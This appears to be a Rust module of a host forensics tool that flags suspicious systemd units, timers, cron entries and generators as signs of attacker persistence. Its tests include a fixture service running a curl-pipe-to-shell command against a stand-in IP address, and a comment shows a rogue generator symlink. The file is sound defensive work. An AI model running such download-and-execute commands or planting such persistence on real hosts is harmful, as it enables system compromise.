//! systemd units, timers and generators.

use super::common::*;
use super::content::*;
use crate::config::AnalysisConfig;
use crate::context::what;
use crate::context::{Ctx, program};
use crate::input::BundleInput;
use dossier_plugin_api::analysis::{Arg, Finding, Ioc, Message};

/// Prefixes of names that belong to the system: a local unit so named imitates it.
const SYSTEM_PREFIXES: &[&str] = &[
    "systemd-",
    "dbus-",
    "kworker",
    "kthread",
    "ksoftirq",
    "kswapd",
    "udev",
    "getty",
    "polkit",
    "rsyslog",
    "journal",
    "network-",
    "networkd",
    "sshd",
    "cron",
    "atd",
    "accounts-daemon",
    "snapd",
    "irqbalance",
    "multipathd",
    "udisks",
    "upower",
];

/// What a unit's name imitates, if it imitates something: a kernel thread or system daemon
/// name, a packaged program (a file in a system binary directory owned by a package) or a
/// packaged unit on this host.
pub(crate) fn imitated(ctx: &Ctx, unit: &str) -> Option<Message> {
    let stem = unit
        .rsplit_once('.')
        .map_or(unit, |(s, _)| s)
        .split('@')
        .next()
        .unwrap_or(unit)
        .to_ascii_lowercase();
    if stem.is_empty() {
        return None;
    }
    if DISGUISE_NAMES.contains(&stem.as_str()) || kernel_thread_name(&stem) {
        return Some(Message::new("reason.units.system-program-name").text("name", &stem));
    }
    if let Some(p) = SYSTEM_PREFIXES.iter().find(|p| stem.starts_with(*p)) {
        return Some(Message::new("reason.units.system-prefix").text("prefix", p));
    }
    ctx.packaged_name(&stem)
        .then(|| Message::new("reason.units.packaged-name").text("name", &stem))
}

pub(crate) fn unit_name_mismatch(
    ctx: &Ctx,
    _: &AnalysisConfig,
    _: &mut BundleInput<'_>,
) -> Vec<Finding> {
    let mut out = Vec::new();
    for u in ctx.units.iter().filter(|u| u.rec.unit_type == "service") {
        if ctx.has_package_db && ctx.is_owned(&u.rec.path) {
            continue;
        }
        let Some(prog) = u.rec.exec_start.first().and_then(|c| program(c)) else {
            continue;
        };
        let b = base(&prog);
        if is_interpreter(b) || names_match(&u.rec.name, b) {
            continue;
        }
        let iocs = vec![Ioc::Unit(u.rec.name.clone()), Ioc::Path(prog.clone())];
        let ev = ctx.ev(
            u,
            what("evidence.unit", &[("name", &u.rec.name)]),
            Some(&u.rec.source),
        );
        out.push(match imitated(ctx, &u.rec.name) {
            Some(what) => explained(
                &u.rec.name,
                Message::new("finding.units.name-imitates")
                    .text("unit", &u.rec.name)
                    .text("program", &prog)
                    .msg("why", what),
                ev,
                iocs,
            ),
            None => explained(
                &u.rec.name,
                Message::new("finding.units.name-mismatch")
                    .text("unit", &u.rec.name)
                    .text("program", &prog),
                ev,
                iocs,
            )
            .context(),
        });
    }
    out
}

pub(crate) fn unit_local_unowned(
    ctx: &Ctx,
    _: &AnalysisConfig,
    _: &mut BundleInput<'_>,
) -> Vec<Finding> {
    ctx.units
        .iter()
        .filter(|u| {
            u.rec.unit_dir == "/etc/systemd/system"
                && u.rec.link_target.is_none()
                && !u.rec.masked
                && !ctx.is_owned(&u.rec.path)
        })
        .map(|u| {
            explained(
                &u.rec.name,
                Message::new("finding.units.local-unowned").text("unit", &u.rec.name),
                ctx.ev(
                    u,
                    what("evidence.unit", &[("name", &u.rec.name)]),
                    Some(&u.rec.source),
                ),
                vec![Ioc::Unit(u.rec.name.clone()), Ioc::Path(u.rec.path.clone())],
            )
        })
        .collect()
}

pub(crate) fn inline_shell_download(
    ctx: &Ctx,
    _: &AnalysisConfig,
    _: &mut BundleInput<'_>,
) -> Vec<Finding> {
    let mut out = Vec::new();
    for u in &ctx.units {
        for cmd in unit_commands(&u.rec) {
            if let Some(why) = hook_line_pattern_msg(cmd) {
                out.push(
                    explained(
                        &u.rec.name,
                        Message::new("finding.units.inline-unit")
                            .text("unit", &u.rec.name)
                            .text("command", cmd)
                            .msg("why", why),
                        ctx.ev(
                            u,
                            what("evidence.unit", &[("name", &u.rec.name)]),
                            Some(&u.rec.source),
                        ),
                        vec![Ioc::Unit(u.rec.name.clone())],
                    )
                    .with_fact(format!("unit-command:{}", u.rec.name)),
                );
            }
        }
    }
    for c in &ctx.cron {
        if let Some(why) = hook_line_pattern_msg(&c.rec.command) {
            let src = &c.rec.source.path;
            out.push(explained(
                format!("{src}:{}", c.rec.line),
                Message::new("finding.units.inline-cron")
                    .text("file", src)
                    .text("line", c.rec.line)
                    .text("command", &c.rec.command)
                    .msg("why", why),
                ctx.ev(
                    c,
                    what(
                        "evidence.cron-entry",
                        &[("file", &src), ("line", &c.rec.line)],
                    ),
                    Some(&c.rec.source),
                ),
                vec![Ioc::CronCommand(c.rec.command.clone())],
            ));
        }
    }
    out
}

/// Seconds of a systemd time span (`5min`, `30s`, `1h 5min`, `300`), when parseable.
pub fn span_seconds(s: &str) -> Option<u64> {
    let mut total = 0u64;
    let mut any = false;
    for part in s.split_whitespace() {
        let idx = part
            .find(|c: char| !c.is_ascii_digit())
            .unwrap_or(part.len());
        let (n, unit) = part.split_at(idx);
        let n: u64 = n.parse().ok()?;
        let mult = match unit {
            "" | "s" | "sec" | "second" | "seconds" => 1,
            "m" | "min" | "minute" | "minutes" => 60,
            "h" | "hr" | "hour" | "hours" => 3600,
            "d" | "day" | "days" => 86400,
            "ms" | "msec" => 0,
            _ => return None,
        };
        total += n * mult;
        any = true;
    }
    any.then_some(total)
}

pub(crate) fn aggressive_timer(
    ctx: &Ctx,
    _: &AnalysisConfig,
    _: &mut BundleInput<'_>,
) -> Vec<Finding> {
    let mut out = Vec::new();
    for u in ctx
        .units
        .iter()
        .filter(|u| u.rec.unit_type == "timer" && !ctx.is_owned(&u.rec.path))
    {
        let Some(t) = &u.rec.timer else { continue };
        let short = t
            .on_unit_active_sec
            .iter()
            .chain(&t.on_boot_sec)
            .chain(&t.on_active_sec)
            .chain(&t.on_startup_sec)
            .chain(&t.on_unit_inactive_sec)
            .find(|s| span_seconds(s).is_some_and(|n| n <= 300));
        let cal = t.on_calendar.iter().find(|c| {
            let c = c.to_ascii_lowercase();
            c == "minutely"
                || c.contains("*:*")
                || c.contains(":0/")
                || c.contains("*:0/")
                || c.ends_with("/1")
                || c.ends_with("/5")
        });
        if let Some(s) = short.or(cal) {
            // Persistence pointing at something bad is behaviour; a frequent local timer
            // running an ordinary program is context.
            let bad = ctx
                .units
                .iter()
                .filter(|x| x.rec.name == t.unit)
                .flat_map(|x| unit_commands(&x.rec))
                .find_map(|c| {
                    command_problem_msg(ctx, c).map(|why| {
                        Message::new("reason.units.unit-command-bad")
                            .text("command", c)
                            .msg("why", why)
                    })
                });
            let mut ev = ctx.ev(
                u,
                what("evidence.timer", &[("name", &u.rec.name)]),
                Some(&u.rec.source),
            );
            for x in ctx.units.iter().filter(|x| x.rec.name == t.unit) {
                ev.extend(ctx.ev(
                    x,
                    what("evidence.unit", &[("name", &x.rec.name)]),
                    Some(&x.rec.source),
                ));
            }
            let iocs = vec![Ioc::Unit(u.rec.name.clone()), Ioc::Unit(t.unit.clone())];
            out.push(match bad {
                Some(why) => explained(
                    &u.rec.name,
                    Message::new("finding.units.timer-bad")
                        .text("timer", &u.rec.name)
                        .text("unit", &t.unit)
                        .text("every", s)
                        .msg("why", why),
                    ev,
                    iocs,
                ),
                None => explained(
                    &u.rec.name,
                    Message::new("finding.units.timer")
                        .text("timer", &u.rec.name)
                        .text("unit", &t.unit)
                        .text("every", s),
                    ev,
                    iocs,
                )
                .context(),
            });
        }
    }
    out
}

/// Directories systemd loads units from: a generator linking a unit from elsewhere enables a
/// file nobody looks for.
const UNIT_DIRS: &[&str] = &[
    "/usr/lib/systemd/",
    "/lib/systemd/",
    "/etc/systemd/",
    "/run/systemd/",
    "/usr/local/lib/systemd/",
];

/// What a generator's script writes that is bad: a link to a unit file kept outside systemd's
/// directories (`ln -s /usr/lib/x/kmodd.service "$1"/...`).
fn generator_writes(text: &str) -> Option<(usize, String, Message)> {
    const SUFFIXES: &[&str] = &[".service", ".timer", ".socket", ".path", ".mount"];
    text.lines().enumerate().find_map(|(i, l)| {
        let t = l.trim();
        if t.starts_with('#')
            || !t
                .split_whitespace()
                .any(|w| w == "ln" || w.ends_with("/ln"))
        {
            return None;
        }
        t.split_whitespace()
            .map(|w| w.trim_matches(|c| c == '"' || c == '\''))
            .find(|w| {
                w.starts_with('/')
                    && SUFFIXES.iter().any(|s| w.ends_with(s))
                    && !UNIT_DIRS.iter().any(|d| w.starts_with(d))
            })
            .map(|w| {
                (
                    i + 1,
                    t.to_string(),
                    Message::new("reason.units.generator-links").text("path", w),
                )
            })
    })
}

/// The scope of a generator (`system`, `user`, `system-environment`, `user-environment`) in
/// the report's language; another scope as it is.
fn generator_scope(scope: &str) -> Arg {
    match scope {
        "system" | "user" | "system-environment" | "user-environment" => {
            Message::new(format!("reason.units.scope.{scope}")).into()
        }
        other => other.into(),
    }
}

pub(crate) fn generator_unowned(
    ctx: &Ctx,
    cfg: &AnalysisConfig,
    input: &mut BundleInput<'_>,
) -> Vec<Finding> {
    let mut out = Vec::new();
    for g in &ctx.generators {
        let Some(meta) = &g.rec.meta else { continue };
        let judged = match (&g.rec.link_target, meta.kind) {
            (Some(t), _) if t == "/dev/null" => continue,
            (Some(t), _) => rc_link_target(&g.rec.path, t),
            (None, dossier_plugin_api::host::FileKind::File) if meta.is_executable() => {
                g.rec.path.clone()
            }
            _ => continue,
        };
        if ctx.is_owned(&g.rec.path) || ctx.is_owned(&judged) {
            continue;
        }
        let mut iocs = vec![Ioc::Path(g.rec.path.clone())];
        iocs.extend(
            g.rec
                .source
                .as_ref()
                .and_then(|s| s.sha256.clone())
                .map(Ioc::Sha256),
        );
        // What it does: its script's lines (the same detectors as hooks, and the units it
        // writes), where it lives, and whether its name imitates systemd's own generators.
        let text = g
            .rec
            .source
            .as_ref()
            .and_then(|s| s.member.as_ref())
            .and_then(|m| (input.read_member)(m, cfg.max_scan_bytes.min(16 << 20)).ok())
            .map(|d| String::from_utf8_lossy(&d).into_owned());
        let content = text.as_deref().and_then(|t| {
            script_patterns_msg(t)
                .into_iter()
                .next()
                .or_else(|| generator_writes(t))
                .map(|(n, line, why)| {
                    Message::new("reason.units.script-line")
                        .text("n", n)
                        .text("line", line.chars().take(200).collect::<String>())
                        .msg("why", why)
                })
        });
        let name = base(&g.rec.path);
        let bad = content
            .or_else(|| {
                unusual_location_msg(&judged).map(|w| {
                    Message::new("reason.units.runs-unusual")
                        .text("path", &judged)
                        .msg("why", w)
                })
            })
            .or_else(|| {
                name.starts_with("systemd-")
                    .then(|| Message::new("reason.units.imitates-generators").text("name", name))
            });
        let ev = ctx.ev(
            g,
            what("evidence.generator", &[("path", &g.rec.path)]),
            g.rec.source.as_ref(),
        );
        out.push(match bad {
            Some(why) => explained(
                &g.rec.path,
                with_arg(
                    Message::new("finding.units.generator-bad")
                        .text("path", &g.rec.path)
                        .msg("why", why),
                    "scope",
                    generator_scope(&g.rec.scope),
                ),
                ev,
                iocs,
            ),
            None => explained(
                &g.rec.path,
                with_arg(
                    Message::new("finding.units.generator").text("path", &g.rec.path),
                    "scope",
                    generator_scope(&g.rec.scope),
                ),
                ev,
                iocs,
            )
            .context(),
        });
    }
    out
}

#[cfg(test)]
mod tests {
    use crate::engine::analyze_records;
    use dossier_plugin_api::analysis::{Finding, HostAnalysis};
    use serde_json::json;

    fn unit(line: usize, name: &str, exec: &str) -> (usize, serde_json::Value) {
        let path = format!("/etc/systemd/system/{name}");
        (
            line,
            json!({"kind": "unit", "name": name, "unit_type": name.rsplit('.').next().unwrap(),
                   "scope": "system", "path": path, "source": {"path": path},
                   "unit_dir": "/etc/systemd/system", "masked": false, "enabled": true,
                   "exec_start": if exec.is_empty() { vec![] } else { vec![exec] }}),
        )
    }

    fn packages() -> Vec<(usize, serde_json::Value)> {
        vec![
            (
                1,
                json!({"kind": "package", "manager": "dpkg", "name": "coreutils", "version": "9", "source": {"path": "/var/lib/dpkg/status"}}),
            ),
            (
                2,
                json!({"kind": "package_files", "manager": "dpkg", "package": "coreutils",
                       "files": ["/usr/bin/sleep", "/usr/sbin/cron", "/usr/bin/restic", "/usr/lib/systemd/system/cron.service"],
                       "source": {"path": "x"}}),
            ),
        ]
    }

    fn run(units: Vec<(usize, serde_json::Value)>) -> HostAnalysis {
        let records = [
            ("systemd".to_string(), units),
            ("packages".to_string(), packages()),
        ]
        .into_iter()
        .collect();
        analyze_records(records)
    }

    fn of<'a>(a: &'a HostAnalysis, rule: &str) -> Vec<&'a Finding> {
        a.findings
            .iter()
            .chain(&a.context)
            .filter(|f| f.rule == rule)
            .collect()
    }

    #[test]
    fn unit_names_are_judged_by_what_they_imitate() {
        let a = run(vec![
            unit(1, "heartbeat.service", "/usr/bin/sleep infinity"),
            unit(2, "backup.service", "/usr/bin/restic backup /srv"),
            unit(3, "python.service", "/var/log/log"),
            unit(4, "systemd-netd.service", "/opt/x/agent"),
            unit(5, "cron-helper.service", "/opt/y"),
        ]);
        let m = of(&a, "unit-name-mismatch");
        let behaviour: Vec<&str> = a
            .findings
            .iter()
            .filter(|f| f.rule == "unit-name-mismatch")
            .map(|f| f.subject.as_str())
            .collect();
        assert_eq!(m.len(), 5, "{m:?}");
        assert_eq!(
            behaviour,
            [
                "cron-helper.service",
                "python.service",
                "systemd-netd.service"
            ]
        );
        // A local heartbeat and a backup unit are normal: context only, nothing scored.
        let a = run(vec![
            unit(1, "heartbeat.service", "/usr/bin/sleep infinity"),
            unit(2, "backup.service", "/usr/bin/restic backup /srv"),
        ]);
        assert_eq!((a.score, a.hits.len()), (0, 0), "{:?}", a.hits);
        assert!(of(&a, "unit-local-unowned").len() == 2);
    }

    #[test]
    fn inline_shell_and_timers_judge_content() {
        let mut timer = unit(3, "poll.timer", "");
        timer.1["timer"] = json!({"unit": "poll.service", "on_unit_active_sec": ["1min"]});
        let mut quiet = unit(5, "sync.timer", "");
        quiet.1["timer"] = json!({"unit": "sync.service", "on_unit_active_sec": ["2min"]});
        let a = run(vec![
            unit(1, "local.service", "/bin/sh -c 'echo hi >/run/x'"),
            unit(
                2,
                "poll.service",
                "/bin/sh -c 'curl -fsSL http://198.51.100.7/p | sh'",
            ),
            timer,
            unit(4, "sync.service", "/usr/bin/sleep 1"),
            quiet,
        ]);
        let sh: Vec<&str> = of(&a, "inline-shell-download")
            .iter()
            .map(|f| f.subject.as_str())
            .collect();
        assert_eq!(sh, ["poll.service"], "a bare sh -c is not judged");
        let timers: Vec<(&str, bool)> = of(&a, "aggressive-timer-unowned")
            .iter()
            .map(|f| (f.subject.as_str(), f.class.is_behaviour()))
            .collect();
        assert_eq!(timers, [("poll.timer", true), ("sync.timer", false)]);
    }
}
